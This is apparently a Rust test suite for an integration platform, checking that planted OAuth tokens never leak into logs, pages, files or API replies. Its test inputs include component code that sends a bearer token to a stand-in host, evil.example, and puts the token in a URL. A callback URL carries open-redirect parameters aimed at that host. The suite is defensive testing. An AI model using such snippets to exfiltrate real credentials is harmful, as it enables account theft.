//! Planted tokens are looked for in everything that is written, logged or answered.

use bytes::Bytes;
use serde_json::{Value, json};

use super::{World, configure, connect, deploy, run, service, visit};

/// What occurs in every secret of these tests.
const PLANTED: [&str; 3] = ["t0ken", "s3cret-planted", "k3y-planted"];

fn check(place: &str, text: &str) {
    for planted in PLANTED {
        assert!(
            !text.contains(planted),
            "{place} shows {planted}: {}",
            text.split(planted)
                .next()
                .unwrap_or_default()
                .chars()
                .rev()
                .take(300)
                .collect::<String>()
                .chars()
                .rev()
                .collect::<String>()
        );
    }
}

#[tokio::test]
async fn tokens_are_in_no_log_record_error_page_or_file() {
    let world = World::new().await;
    let client = world.client();
    configure(&client, "github").await;
    world.service.lock().expires_in = Some(3600);
    let account = connect(&client, &world.service, "github", &[]).await;
    // Credentials that a service refuses, in a page that says so.
    let refused = client.post("/v1/connects", &json!({"app": "stripe"})).await.unwrap().data();
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let page =
        client.call("POST", refused["url"].as_str().unwrap(), &form, "api_key=k3y-planted".into()).await.unwrap();
    assert_eq!(page.status, 502);
    check("the page of a refusal", &page.text());
    // A component that logs and throws what it has, as clients do with the request that failed.
    let leaks = "console.log('mine', this.app.$auth); const headers = {Authorization: `Bearer ${this.app.$auth.oauth_access_token}`}; \
        await fetch('https://api.github.com/bot' + this.app.$auth.oauth_access_token, {headers}); \
        const error = new Error('failed with ' + JSON.stringify({headers})); error.cause = new Error(headers.Authorization); throw error;";
    let source = deploy(&client, "github", &json!({"authProvisionId": account}), "", leaks).await;

    let ran = run(&client, &source).await;
    assert_eq!(ran["ok"], false);
    world.service.lock().accepted.clear();
    let renewed = run(&client, &source).await;
    assert_eq!((&renewed["ok"], world.service.lock().refreshes), (&json!(false), 1));

    check("a run", &ran.to_string());
    let component = client.get(&format!("/v1/sources/{source}")).await.unwrap().data()["component_id"].clone();
    let trial = json!({"configured_props": {"app": {"authProvisionId": account}}, "event": {}});
    let trial =
        client.post(&format!("/v1/components/{}/try", component.as_str().unwrap()), &trial).await.unwrap().data();
    assert_eq!((&trial["ok"], trial["requests"].as_array().map(Vec::len)), (&json!(false), Some(1)), "{trial}");
    check("a trial", &trial.to_string());
    check("a run after a refresh", &renewed.to_string());
    for path in [
        "/v1/runs",
        "/v1/audit",
        "/v1/users/me/accounts",
        "/v1/apps/github",
        "/v1/admin/audit",
        &format!("/v1/sources/{source}"),
        &format!("/v1/sources/{source}/logs"),
        &format!("/v1/sources/{source}/runs"),
        &format!("/v1/sources/{source}/event_summaries?event_name=$errors&expand=event"),
        &format!("/v1/sources/{source}/versions"),
        &format!("/v1/runs/{}", ran["run_id"].as_str().unwrap()),
        &format!("/v1/accounts/{account}"),
        &format!("/v1/accounts/{account}/uses"),
        "/metrics",
    ] {
        let reply = client.get(path).await.unwrap();
        assert_eq!(reply.status, 200, "{path}");
        check(path, &reply.text());
    }
    let tested = client.post(&format!("/v1/accounts/{account}/test"), &json!({})).await.unwrap();
    assert_eq!(tested.data()["ok"], true, "{}", tested.text());
    check("a test", &tested.text());
    let data = world.folder.data();
    let said = world.served.stop_and_listen().await;
    assert!(said.contains("DEBUG"), "otherwise this proves nothing");
    check("the log", &said);
    for file in std::fs::read_dir(data).unwrap().map(|file| file.unwrap().path()).filter(|path| path.is_file()) {
        check(&file.display().to_string(), &String::from_utf8_lossy(&std::fs::read(&file).unwrap()));
    }
}

#[tokio::test]
async fn with_proxy_the_sandbox_has_no_token_and_cannot_send_it_elsewhere() {
    let world = World::new().await;
    let client = world.client();
    configure(&client, "github").await;
    let account = connect(&client, &world.service, "github", &[]).await;
    let tries = "const held = this.app.$auth.oauth_access_token; const bearer = {headers: {Authorization: `Bearer ${held}`}}; \
        const attempt = async (url, options) => { try { const answer = await fetch(url, options); return {status: answer.status, text: await answer.text(), url: answer.url}; } catch (error) { return {error: String(error.cause?.message ?? error.message)}; } }; \
        this.$emit({held, own: await attempt('https://api.github.com/user', bearer), bare: await attempt('https://api.github.com/user'), \
        elsewhere: await attempt('https://evil.example/', bearer), body: await attempt('https://api.github.com/gists', {method: 'POST', body: held}), \
        query: await attempt('https://api.github.com/?q=' + held)});";
    let source = deploy(&client, "github", &json!({"authProvisionId": account, "auth": "proxy"}), "", tries).await;
    world.service.lock().calls.clear();

    let ran = run(&client, &source).await;

    assert_eq!(ran["ok"], true, "{ran}");
    let event: Value = client.events(&source, "default").await.unwrap().pop().unwrap()["event"].clone();
    check("the sandbox", &event.to_string());
    assert_eq!((&event["own"]["status"], &event["bare"]["status"]), (&json!(200), &json!(200)), "{event}");
    for (refused, why) in [("elsewhere", "hosts of GitHub"), ("body", "may stand only"), ("query", "may stand only")] {
        assert!(event[refused]["error"].as_str().is_some_and(|error| error.contains(why)), "{refused}: {event}");
    }
    let calls = &world.service.lock().calls;
    assert_eq!(calls.len(), 2, "what was refused never left");
    assert!(
        calls
            .iter()
            .all(|call| call.header("host") == "api.github.com" && call.header("authorization").contains("t0ken"))
    );
}

#[tokio::test]
async fn a_callback_in_another_browser_is_refused_and_no_parameter_leads_elsewhere() {
    let world = World::new().await;
    let client = world.client();
    configure(&client, "github").await;
    let (url, cookie, wish) = visit(&client, "github", &[]).await;
    let callback = client.at(&world.service.agree(&url.unwrap()));
    let call =
        async |url: &str, headers: &[(&str, &str)]| client.call("GET", url, headers, Bytes::new()).await.unwrap();

    let other = call(&callback, &[]).await;
    let elsewhere =
        format!("{callback}&redirect_uri=https://evil.example&return_to=https://evil.example&next=//evil.example");
    let own = call(&elsewhere, &[("cookie", &cookie)]).await;
    let again = call(&callback, &[("cookie", &cookie)]).await;

    assert_eq!((other.status, own.status, again.status), (403, 200, 410));
    for reply in [&other, &own, &again] {
        assert!(!reply.headers.contains_key("location") && !reply.text().contains("evil.example"));
        check("a page", &reply.text());
    }
    assert_eq!(client.get(&format!("/v1/connects/{wish}")).await.unwrap().data()["state"], "connected");
    let _ = service::TOKEN_SECRET;
}
